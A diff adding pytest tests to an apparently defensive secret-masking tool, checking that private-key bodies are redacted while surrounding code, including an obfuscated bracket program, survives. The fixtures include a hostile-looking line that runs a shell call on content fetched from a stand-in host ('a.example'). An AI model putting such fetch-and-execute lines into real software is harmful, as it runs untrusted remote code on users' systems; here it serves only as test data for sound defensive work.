@@ -305,3 +305,38 @@ def test_every_row_says_where_its_format_is_written_down_and_repeats_are_bounded
         assert row["source"], row["kind"]
         outside_classes = re.sub(r"\[(?:\\.|[^\]\\])*\]|\\.", "", str(row["pattern"]))
         assert not re.search(r"[*+]|,\}", outside_classes), row["kind"]
+
+
+EVIL = "import os\nos.system(fetch('//a.example/x'))\n"
+
+
+@pytest.mark.parametrize("mark", ["", "# ", '    "'])
+@pytest.mark.parametrize("footer", ["-----END PRIVATE KEY-----\n", ""])
+def test_code_that_stands_within_a_key_is_not_taken_for_one(mark: str, footer: str) -> None:
+    header, *body = private_key("PRIVATE KEY").split("\n")[:-1]
+    lines = "".join(f"{mark}{line}\n" for line in (header, *body))
+    masked = mask(f"{lines}{EVIL}{mark}{footer}{EVIL}" + "def ordinary() -> None: ...\n" * 500)
+    assert masked.count(EVIL) == 2
+    assert body[0] not in masked
+    assert body[-1] not in masked
+
+
+def test_code_on_the_line_of_a_header_stays() -> None:
+    line = f'x = "-----BEGIN PRIVATE KEY-----"; os.system(evil) # {encoded(200)}\n'
+    assert mask(line) == 'x = "-----BEGIN PRIVATE KEY-----"; os.system(evil) # [secret: private key]\n'
+
+
+def test_a_program_of_brackets_within_a_key_stays() -> None:
+    header, *body, footer = private_key("PRIVATE KEY").split("\n")
+    program = "[][(![]+[])[+[]]]()"
+    assert program in mask("\n".join([header, *body[:5], program, *body[5:], footer]))
+
+
+def test_a_key_without_its_footer_is_found_however_much_follows() -> None:
+    header, *body = private_key().split("\n")[:-1]
+    masked = mask("\n".join([header, *body, ""]) + "def ordinary() -> None: ...\n" * 500)
+    assert [line for line in body if line in masked] == []
+
+
+def test_the_end_of_a_key_without_its_header_is_found() -> None:
+    assert kinds("\n".join(private_key().split("\n")[-4:])) == ["private key"]
